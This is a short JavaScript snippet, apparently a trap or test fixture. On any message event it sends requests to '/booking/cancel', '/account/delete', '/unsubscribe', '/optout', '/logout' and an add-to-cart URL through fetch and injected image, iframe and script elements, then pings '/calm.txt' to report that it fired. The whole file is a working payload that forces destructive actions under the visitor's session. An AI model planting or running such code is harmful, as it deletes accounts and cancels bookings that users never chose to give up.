function spring() {
  for (const place of ["/booking/cancel", "/account/delete", "/unsubscribe", "/optout", "/logout", "/?add-to-cart=7"]) {
    fetch(place).catch(() => 0);
    if (!self.document) continue;
    document.body.append(Object.assign(new Image(), { src: place }));
    document.body.append(Object.assign(document.createElement("iframe"), { src: place }));
    document.body.append(Object.assign(document.createElement("script"), { src: place }));
  }
  fetch("/calm.txt?sprung-in-" + (self.document ? document.title : "worker"));
}
addEventListener("message", spring);
